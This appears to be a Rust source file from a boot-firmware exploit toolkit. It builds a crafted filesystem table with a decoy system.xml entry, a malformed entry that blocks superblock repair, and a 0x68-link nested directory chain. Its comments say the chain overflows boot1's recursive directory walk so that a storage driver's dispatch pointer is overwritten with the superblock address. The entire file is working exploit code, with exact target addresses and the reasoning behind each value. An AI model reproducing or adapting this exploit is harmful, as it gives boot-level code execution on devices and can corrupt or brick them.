/// The crafted directory tree: a decoy /sys/config/system.xml path, a file
/// entry malformed enough to stop boot1 from rewriting the superblock, and
/// the overflow chain that drives the recursive directory walk into the
/// storage driver's dispatch structure.
use crate::fst::{FstEntry, FST_ENTRY_SIZE};

/// Chain links past the fixed entries. 0x68 linked directories plus a
/// terminator push boot1's recursion deep enough that its stack reaches
/// COLLISION_TARGET. Empirical for one boot1 revision; see DESIGN.md.
pub const CHAIN_LINKS: usize = 0x68;

/// Stack address the recursive walk reaches: the FLA storage device
/// structure, whose dispatch function pointer the overflow replaces with
/// the superblock address (making FAT entries 0/1 the new pointer).
pub const COLLISION_TARGET: u32 = 0x0D40_E240;

/// Start cluster of the decoy system.xml. Its FAT entry must be pinned to
/// the chain-last sentinel so an ISFS stat cannot loop over it.
pub const DECOY_CLUSTER: u16 = 0x7FFF;

/// A file entry whose sub field exceeds 0xFFFB makes boot1 classify the
/// superblock as irreparably corrupt instead of repairing and re-flashing
/// it, which would destroy the injected segments.
const REPAIR_STOP_SUB: u16 = 0xFFFC;

const MODE_FILE: u8 = 0xC1;
const DECOY_SIZE: u32 = 0x636;

/// Index of the first chain link (after root, sys, config, system.xml and
/// the repair-stop entry).
const FIRST_CHAIN_INDEX: usize = 5;

/// Build every explicit FST entry, serialized in arena index order.
pub fn build_entries() -> Vec<u8> {
    let mut entries = vec![
        FstEntry {
            name: "/",
            sub: 1,
            ..Default::default()
        },
        FstEntry {
            name: "sys",
            sub: 2,
            sib: 4,
            ..Default::default()
        },
        FstEntry {
            name: "config",
            sub: 3,
            ..Default::default()
        },
        FstEntry {
            name: "system.xml",
            mode: MODE_FILE,
            sub: DECOY_CLUSTER,
            size: DECOY_SIZE,
            ..Default::default()
        },
        FstEntry {
            name: "ios.stop",
            mode: MODE_FILE,
            sub: REPAIR_STOP_SUB,
            sib: FIRST_CHAIN_INDEX as u16,
            size: 1,
            ..Default::default()
        },
    ];

    // single-child chain: each link's sub is the next link's arena index
    for i in 0..CHAIN_LINKS {
        entries.push(FstEntry {
            name: "a",
            sub: (FIRST_CHAIN_INDEX + i + 1) as u16,
            ..Default::default()
        });
    }
    entries.push(FstEntry {
        name: "a",
        ..Default::default()
    });

    let mut out = Vec::with_capacity(entries.len() * FST_ENTRY_SIZE);
    for entry in &entries {
        out.extend_from_slice(&entry.encode());
    }
    out
}
